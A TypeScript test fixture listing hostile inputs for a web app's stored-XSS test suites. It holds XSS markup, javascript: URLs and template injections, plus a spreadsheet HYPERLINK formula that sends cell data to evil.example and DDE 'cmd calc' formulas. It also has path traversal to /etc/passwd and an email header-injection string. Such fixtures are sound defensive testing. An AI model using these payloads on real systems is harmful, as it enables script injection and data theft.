/**
 * The hostile texts stored in every free-text field by the stored-XSS suites (docs/reliability.md,
 * "Bad input"). A fixed list, so a failure names the payload that got through. The markup ones set
 * `window.__xss` when they run: the browser suite asserts the probe stays undefined.
 */

/** The global a payload sets when its script runs. */
export const PROBE = "__xss";
const run = `window.${PROBE}=1`;

export type Threat = "markup" | "url" | "template" | "formula" | "file-name" | "control";

export interface HostilePayload {
  /** A short name for test titles and reports. */
  id: string;
  text: string;
  threat: Threat;
}

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { id: "script", text: `<script>${run}</script>`, threat: "markup" },
  { id: "img-onerror", text: `<img src=x onerror="${run}">`, threat: "markup" },
  { id: "svg-onload", text: `<svg onload="${run}"><circle r="1"/></svg>`, threat: "markup" },
  {
    id: "iframe-srcdoc",
    text: `"><iframe srcdoc="<script>parent.${PROBE}=1</script>"></iframe>`,
    threat: "markup",
  },
  { id: "attribute-break", text: `' autofocus onfocus='${run}' x='`, threat: "markup" },
  { id: "anchor-javascript", text: `<a href="javascript:${run}">click</a>`, threat: "markup" },
  { id: "javascript-url", text: `javascript:${run}//`, threat: "url" },
  { id: "entities", text: `&lt;img src=x onerror=${run}&gt; &#60;b&#62;`, threat: "markup" },
  { id: "style", text: "<style>body{display:none}</style><b>bold</b>", threat: "markup" },
  { id: "textarea-break", text: `</textarea></title><script>${run}</script>`, threat: "markup" },
  { id: "mxss", text: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`, threat: "markup" },
  { id: "template", text: `{{constructor.constructor('${run}')()}}`, threat: "template" },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder, as text, is the payload
  { id: "template-other", text: "${7*7} #{7*7} <%= 7*7 %>", threat: "template" },
  {
    id: "markdown-link",
    text: `[click me](javascript:${run}) ![x](https://evil.example/x.png)`,
    threat: "url",
  },
  { id: "header-injection", text: "Hi\r\nBcc: all@evil.example\r\n\r\n<b>body</b>", threat: "control" },
  { id: "hyperlink", text: '=HYPERLINK("https://evil.example/?d="&A1,"Open")', threat: "formula" },
  { id: "dde", text: "+cmd|' /C calc'!A0", threat: "formula" },
  { id: "at-sum", text: "@SUM(1+1)*cmd|' /C calc'!A0", threat: "formula" },
  { id: "minus", text: "-1+1", threat: "formula" },
  { id: "tab-formula", text: "\t=1+1", threat: "formula" },
  { id: "cr-formula", text: "\r=1+1", threat: "formula" },
  { id: "rtl-override", text: "invoice\u202Efdp.exe", threat: "file-name" },
  { id: "traversal", text: "../../etc/passwd", threat: "file-name" },
  { id: "windows-traversal", text: "..\\..\\windows\\win.ini", threat: "file-name" },
  { id: "nul", text: `nul\u0000<script>${run}</script>`, threat: "control" },
];

/**
 * The payloads the rendering suites store: all but NUL, which PostgreSQL text cannot hold (what the
 * API answers to it is nul-bytes.test.ts's subject).
 */
export const STORABLE_PAYLOADS = HOSTILE_PAYLOADS.filter((p) => !p.text.includes("\u0000"));
